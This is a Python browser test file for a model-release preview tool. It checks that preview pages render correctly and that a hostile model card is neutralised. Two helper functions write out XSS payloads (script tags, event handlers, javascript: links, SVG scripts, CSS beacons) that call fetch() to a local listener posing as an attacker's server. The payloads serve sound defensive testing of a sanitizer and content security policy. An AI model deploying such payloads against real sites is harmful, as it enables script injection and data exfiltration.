"""The releases' pages as ``hubrelease preview`` serves them, loaded in a real browser (chromium).

For the example and both seed releases (small stand-ins for their weights; card, charts and
evaluations as committed): the page loads without a console error or a failed request, every
image and chart decodes to a non-zero size, the card's tables hold the evaluation files' figures,
and the widgets show the manifest's licence and base model. A hostile card runs nothing: no
script, no event handler, no request to a listener on this machine, not even when its SVG is
opened on its own or when a page carrying a script gets past the sanitizer (the policy stops it).
"""

from __future__ import annotations

import http.server
import json
import re
import shutil
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, ClassVar

import pytest
from PIL import Image

from hubrelease.manifest import load_manifest
from hubrelease.preview import open_preview
from hubrelease_loopback import LoopbackHub
from hubrelease_loopback.pages import content_security_policy
from tests.factories.releases import write_hand_written_release
from tests.factories.seeds import SEEDS, small_seed

REPO_ROOT = Path(__file__).resolve().parents[1]
IMAGE_LINK = re.compile(r"!\[[^\]]*\]\(([^)\s]+)\)")
IMAGES = """[...document.querySelectorAll('#card img')].map(i => ({
    src: i.getAttribute('src'), complete: i.complete, width: i.naturalWidth, height: i.naturalHeight}))"""
TABLES = """[...document.querySelectorAll('#card table')].map(t =>
    [...t.rows].map(r => [...r.cells].map(c => c.innerText.trim())))"""


@dataclass
class Loaded:
    """A page and everything that went wrong while it loaded."""

    page: Any
    console_errors: list[str] = field(default_factory=list)
    page_errors: list[str] = field(default_factory=list)
    failed: list[str] = field(default_factory=list)
    refused: list[str] = field(default_factory=list)
    requested: list[str] = field(default_factory=list)
    """Requests that went out and were answered (one the policy blocks fails before it leaves)."""


def load(chromium: Any, url: str) -> Loaded:
    page = chromium.new_context(viewport={"width": 1280, "height": 900}).new_page()
    loaded = Loaded(page)
    page.on("console", lambda m: loaded.console_errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: loaded.page_errors.append(str(e)))
    page.on("requestfailed", lambda r: loaded.failed.append(r.url))
    page.on("requestfinished", lambda r: loaded.requested.append(r.url))
    page.on("response", lambda r: loaded.refused.append(f"{r.status} {r.url}") if r.status >= 400 else None)
    page.goto(url, wait_until="load")
    return loaded


@pytest.fixture(scope="module")
def pinned_repos(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LoopbackHub]:
    """A loopback Hub holding the seeds' pinned repos, so their stand-ins pin real commits."""
    with LoopbackHub(tmp_path_factory.mktemp("pinned")) as hub:
        yield hub


@pytest.fixture(params=["example", *SEEDS])
def release(request: pytest.FixtureRequest, tmp_path: Path, pinned_repos: LoopbackHub) -> Path:
    name = str(request.param)
    if name == "example":
        shutil.copytree(REPO_ROOT / "manifests" / name, tmp_path / name)
        return tmp_path / name / "hubrelease.yaml"
    return small_seed(REPO_ROOT, name, tmp_path, pinned_repos)


def _cell_texts(tables: list[list[list[str]]]) -> set[str]:
    return {cell for table in tables for row in table for cell in row}


def _rows(tables: list[list[list[str]]]) -> list[list[str]]:
    return [row for table in tables for row in table]


def check_figures(evaluation: dict[str, Any], tables: list[list[list[str]]]) -> int:
    """Every measured figure of ``evaluation`` in a table row of the card; returns how many were found."""
    labels = {c["id"]: c["label"] for c in evaluation.get("configurations", [])}
    rows = _rows(tables)
    checked = 0
    for cell in evaluation.get("cells", []):
        want = [labels[cell["configuration"]], str(cell["concurrency"]), f"{cell['overall_tok_s']:.1f}"]
        assert any(row[:3] == want for row in rows), f"no table row {want}"
        checked += 1
    for comparison in evaluation.get("comparisons", []):
        for row in comparison["rows"]:
            means = {str(row["baseline_mean"]), str(row["treatment_mean"])}
            assert any(means <= set(r) for r in rows), f"{comparison['id']}: no table row with {means}"
            checked += 1
    cells = _cell_texts(tables)
    for sweep in evaluation.get("sweeps", []):
        for row in sweep["rows"]:
            assert str(row["mean_tok_s"]) in cells, f"{sweep['id']}: {row['mean_tok_s']} not in a table"
            checked += 1
    return checked


def test_release_page_in_the_browser(chromium: Any, artifacts: Path, release: Path) -> None:
    manifest = load_manifest(release)
    card = (release.parent / "README.md").read_text(encoding="utf-8")
    with open_preview(release) as shown:
        assert shown.problems == []
        loaded = load(chromium, shown.url)
        page = loaded.page
        assert (loaded.console_errors, loaded.page_errors, loaded.failed, loaded.refused) == ([], [], [], [])
        images = page.evaluate(IMAGES)
        assert [i["src"].split("/resolve/", 1)[1].split("/", 1)[1] for i in images] == IMAGE_LINK.findall(
            card
        )
        assert all(i["complete"] and i["width"] > 0 and i["height"] > 0 for i in images), images
        charts = [a.path for a in manifest.artifacts if a.path.startswith("charts/")]
        assert set(charts) <= {i["src"].split("/resolve/", 1)[1].split("/", 1)[1] for i in images}
        tables = page.evaluate(TABLES)
        figures = sum(
            check_figures(json.loads((release.parent / e).read_text()), tables)
            for e in manifest.evaluation_paths
        )
        assert figures >= 4
        assert page.inner_text('[data-widget="license"] dd') == manifest.release.license
        bases = page.locator('[data-widget="base_model"] .chip').all_inner_texts()
        assert bases == manifest.release.base_model
        name = release.parent.name
        page.screenshot(path=str(artifacts / f"{name}.png"), full_page=True)
        if name == "example":  # the README's picture: the first screen, in 32 colours (~60 kB)
            page.screenshot(path=str(artifacts / "example-top.png"))
            top = Image.open(artifacts / "example-top.png").convert("RGB")
            top.quantize(colors=32).save(artifacts / "preview-example.png", optimize=True)
        print(f"{name}: {len(images)} image(s), {figures} figures checked, {len(tables)} tables")


class _Listener(http.server.BaseHTTPRequestHandler):
    """A server on this machine that a hostile card would call home to."""

    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        type(self).hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    handler = type("Listener", (_Listener,), {"hits": []})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", handler.hits
    server.shutdown()
    server.server_close()


def hostile_card(home: str) -> str:
    return f"""---
license: apache-2.0
---
# Hostile card

<script>window.pwned = 'script'; fetch('{home}/script')</script>

<img src="charts/evil.svg" onerror="window.pwned='onerror'; fetch('{home}/onerror')" onload="window.pwned='onload'">

<img src="missing.png" onerror="window.pwned='onerror-missing'; fetch('{home}/onerror-missing')">

<img src="{home}/tracker.png">

<svg onload="window.pwned='svg'"><script>fetch('{home}/inline-svg')</script></svg>

<a href="javascript:window.pwned='href';fetch('{home}/href')">click me</a>

<iframe src="{home}/iframe"></iframe><object data="{home}/object"></object><embed src="{home}/embed">

<style>body {{ background: url('{home}/style') }}</style><link rel="stylesheet" href="{home}/sheet.css">

<div style="background:url('{home}/attr-style')">styled</div>

<details open ontoggle="window.pwned='ontoggle';fetch('{home}/ontoggle')"><summary>more</summary>x</details>

<form action="{home}/form"><input name="q" autofocus onfocus="window.pwned='focus'"></form>

![chart](charts/evil.svg)
"""


def evil_svg(home: str) -> bytes:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="fetch(\'{home}/svg-onload\')">'
        f"<script>window.pwned='svg-script';fetch('{home}/svg-script')</script>"
        f'<image href="{home}/svg-image.png" width="1" height="1"/><rect width="20" height="20"/></svg>'
    ).encode()


def test_a_hostile_card_runs_nothing(
    chromium: Any, artifacts: Path, tmp_path: Path, listener: tuple[str, list[str]]
) -> None:
    home, hits = listener
    files = {"model.safetensors": b"\0" * 4096, "charts/evil.svg": evil_svg(home)}
    manifest = write_hand_written_release(tmp_path / "hostile", hostile_card(home), files)
    with open_preview(manifest) as shown:
        loaded = load(chromium, shown.url)
        page = loaded.page
        page.get_by_text("click me").click()
        assert page.evaluate("typeof window.pwned") == "undefined"
        assert page.evaluate("document.scripts.length") == 0
        assert [url for url in loaded.requested if url.startswith(home)] == []
        assert [p.message for p in shown.problems] == [
            "image missing.png: no file missing.png in the repo",
            f"image {home}/tracker.png is off the machine: not loaded here",
        ]
        charts = [i for i in page.evaluate(IMAGES) if i["src"] and i["src"].endswith("/charts/evil.svg")]
        assert len(charts) == 2 and all(i["width"] == 20 for i in charts)  # shown, as an image: inert
        page.screenshot(path=str(artifacts / "hostile.png"), full_page=True)

        opened = load(chromium, f"{shown.hub.url}/{shown.plan.repo_id}/resolve/main/charts/evil.svg")
        assert [url for url in opened.requested if url.startswith(home)] == []
        assert any("Content Security Policy" in e or "sandboxed" in e for e in opened.console_errors), (
            opened.console_errors
        )

        # A page carrying a script past the sanitizer (as if it had a bug): the policy alone stops it.
        policy = content_security_policy(shown.hub.url, shown.hub.cdn_url)
        raw = f"<!DOCTYPE html><title>x</title><script>window.pwned=1;fetch('{home}/csp')</script>"
        raw += f'<img src="{home}/csp.png" onerror="window.pwned=2">'
        shown.hub.faults.inject(
            "status",
            route="page",
            status=200,
            body=raw.encode(),
            content_type="text/html",
            headers={"Content-Security-Policy": policy},
        )
        bypass = load(chromium, shown.url)
        assert bypass.page.evaluate("typeof window.pwned") == "undefined"
        assert [url for url in bypass.requested if url.startswith(home)] == []
        assert any("Content Security Policy" in e for e in bypass.console_errors), bypass.console_errors
    assert hits == []  # the listener itself never heard from the browser
